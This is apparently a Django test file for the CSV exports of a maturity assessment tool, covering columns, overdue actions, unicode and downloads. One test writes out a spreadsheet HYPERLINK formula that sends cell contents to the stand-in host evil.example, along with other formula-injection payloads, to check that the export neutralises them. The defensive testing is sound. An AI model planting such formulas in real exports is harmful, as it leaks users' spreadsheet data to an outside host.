"""CSV exports of the answers and the action plan."""

from __future__ import annotations

import csv
import datetime
import io
import re

from django.utils import timezone

from maturity.assessments.models import Action, ActionNote
from maturity.reports import csv_export
from tests.reports.conftest import report_url

DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"-?\d+")


def read(data: bytes) -> list[dict[str, str]]:
    assert data.startswith(b"\xef\xbb\xbf"), "UTF-8 with a byte order mark, for Excel"
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def assert_no_cell_can_run(rows: list[dict[str, str]]) -> None:
    for row in rows:
        for column, value in row.items():
            assert not value.startswith(DANGEROUS) or NUMBER.fullmatch(value), f"{column}: {value!r}"


def test_the_answers_csv_has_a_row_per_area_with_levels_as_numbers_and_names(full):
    rows = read(csv_export.responses_csv(full))
    assert len(rows) == full.framework.areas.count()
    first = rows[0]
    response = full.responses.select_related("area__section").order_by("area__position").first()
    names = full.framework.level_names
    assert first["Area"] == response.area.label
    assert first["Section"] == response.area.section.title
    assert first["Current level"] == str(response.current_level)
    assert first["Current level name"] == names[response.current_level]
    assert first["Target level name"] == names[response.target_level]
    assert first["Gap"] == str(response.target_level - response.current_level)
    assert first["Target year"] == str(response.target_year)
    assert first["Links"] == "\n".join(response.evidence_links)
    assert first["Confidence"] in {"Low", "Medium", "High"}


def test_a_formula_in_evidence_cannot_run_in_the_csv(full):
    response = full.responses.order_by("area__position").first()
    response.evidence = '=HYPERLINK("https://evil.example/?"&A1,"Click for evidence")'
    response.save()
    others = full.responses.order_by("area__position")[1:4]
    for prefix, other in zip(["+44 20", "-1+2", "@SUM(1)"], others):
        other.evidence = prefix
        other.save()
    rows = read(csv_export.responses_csv(full))
    assert rows[0]["Evidence"] == "'" + response.evidence
    assert [row["Evidence"] for row in rows[1:4]] == ["'+44 20", "'-1+2", "'@SUM(1)"]
    assert_no_cell_can_run(rows)


def test_a_tab_or_carriage_return_at_the_start_of_a_cell_is_neutralised_too(full):
    action = full.actions.order_by("area__position", "due_date", "pk").first()
    action.title, action.owner_name = "\t=1+1", "\r=cmd"
    action.save()
    rows = read(csv_export.actions_csv(full))
    assert rows[0]["Title"] == "'\t=1+1"
    assert rows[0]["Owner"].startswith("'")
    assert_no_cell_can_run(rows)


def test_the_actions_csv_says_which_actions_are_overdue_and_gives_the_latest_note(assessment, lead):
    today = timezone.localdate()
    area = assessment.framework.areas.order_by("position").first()
    late = Action.objects.create(
        assessment=assessment,
        area=area,
        title="Publish the pipeline",
        owner_name="Sam Owner",
        owner_email="sam@camden.example.gov.uk",
        due_date=today - datetime.timedelta(days=1),
    )
    Action.objects.create(
        assessment=assessment,
        area=area,
        title="Train the team",
        owner_name="Kim",
        due_date=today - datetime.timedelta(days=1),
        status=Action.Status.DONE,
    )
    ActionNote.objects.create(action=late, date=today - datetime.timedelta(days=9), text="Draft written", author=lead)
    ActionNote.objects.create(action=late, date=today - datetime.timedelta(days=2), text="With the board", author=lead)
    rows = read(csv_export.actions_csv(assessment))
    assert [row["Title"] for row in rows] == ["Publish the pipeline", "Train the team"]
    assert [row["Overdue"] for row in rows] == ["Yes", "No"]
    assert rows[0]["Latest note"] == f"{(today - datetime.timedelta(days=2)).isoformat()}: With the board"
    assert rows[0]["Owner email"] == "sam@camden.example.gov.uk"
    assert rows[0]["Due date"] == (today - datetime.timedelta(days=1)).isoformat()
    assert rows[0]["Status"] == "Not started"


def test_unicode_survives_the_csv(full):
    response = full.responses.order_by("area__position").first()
    response.evidence = "Café – “social value” ‘one team’ 🙂"
    response.save()
    assert read(csv_export.responses_csv(full))[0]["Evidence"] == response.evidence


def test_a_viewer_downloads_both_csv_files(client, full, viewer):
    client.force_login(viewer)
    for name, rows in (("responses-csv", 14), ("actions-csv", 50)):
        response = client.get(report_url(name, full))
        assert response.status_code == 200
        assert response["Content-Type"] == "text/csv; charset=utf-8"
        assert response["Content-Disposition"].endswith('.csv"')
        assert len(read(response.content)) == rows
